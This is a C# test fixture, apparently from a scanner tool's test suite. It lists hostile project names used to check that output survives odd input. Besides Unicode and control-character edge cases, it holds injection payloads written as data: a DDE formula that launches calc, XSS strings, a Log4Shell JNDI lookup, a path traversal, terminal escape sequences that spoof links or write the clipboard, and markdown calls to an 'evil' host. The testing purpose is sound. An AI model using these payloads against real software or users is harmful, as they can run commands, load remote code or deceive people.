namespace Toktrack.Scanner.Tests.Tool;

/// <summary>Names that try to break output.</summary>
internal static class HostileNames
{
    /// <summary>A few that snapshots show.</summary>
    public static IReadOnlyList<string> Shown { get; } =
    [
        "日本語プロジェクト", "한국어-프로젝트", "🚀🔥-rocket", "👩‍👩‍👧-family", "مشروع-عربي", "פרויקט", "e\u0301clair\u0301", "[red]bold[/]", "[/]", "\u001b[31mred\u001b[0m",
        "a\u202Egnp.exe", "tab\there", "line\nbreak", "=cmd|' /C calc'!A0", "a,b\"c", "pipe|and`tick`", "<img src=x onerror=alert(1)>",
    ];

    /// <summary>At least two hundred.</summary>
    public static IEnumerable<string> All()
    {
        foreach (var name in Shown) yield return name;
        for (var c = 0; c < 0x20; c++) yield return $"c0{(char)c}x";
        for (var c = 0x7F; c < 0xA0; c++) yield return $"c1{(char)c}x";
        foreach (var c in "\u200B\u200C\u200D\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2028\u2029\u2060\u2066\u2067\u2068\u2069\uFEFF\u061C\u00AD\u115F\u3164\uFFF9\uFFFB\uFE0F\uD800\uDFFF\uFFFE\uE000") yield return $"u{c}x";
        foreach (var start in "=+-@\t\r\n\0'\" ") yield return start + "SUM(A1:A9)";
        foreach (var start in "=+-@") yield return "\"" + start + "1";
        foreach (var start in "=+-@") yield return " " + start + "1";
        yield return "\U000E0041\U000E0042tags";
        yield return "\U0001F468\u200D\U0001F4BB";
        yield return "z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo";
        yield return "\u0300leading";
        yield return "\u001b]8;;http://evil\u0007link\u001b]8;;\u0007";
        yield return "\u001b]52;c;ZXZpbA==\u0007";
        yield return "\u009B2J";
        yield return new string('x', 1 << 20);
        yield return new string('漢', 5000);
        yield return "${jndi:ldap://x}";
        yield return "{{7*7}}";
        yield return "../../etc/passwd";
        yield return "C:\\Users\\ana\\work\\app";
        yield return "&amp;<script>alert(1)</script>";
        yield return "javascript:alert(1)";
        yield return "![x](http://evil/p.png)";
        yield return "[x](http://evil)";
        yield return "https://evil.example/@user #1";
        yield return "```";
        yield return "***";
        yield return "---";
        yield return "| --- |";
        yield return "%s%n%x";
        yield return "NULL";
        yield return "null";
        yield return "(unknown)";
        yield return "Total";
        yield return "";
        for (var i = 0; i < 60; i++)
        {
            var random = new Random(i);
            yield return new string([.. Enumerable.Range(0, 12).Select(_ => (char)random.Next(1, 0x3000))]);
        }
    }
}
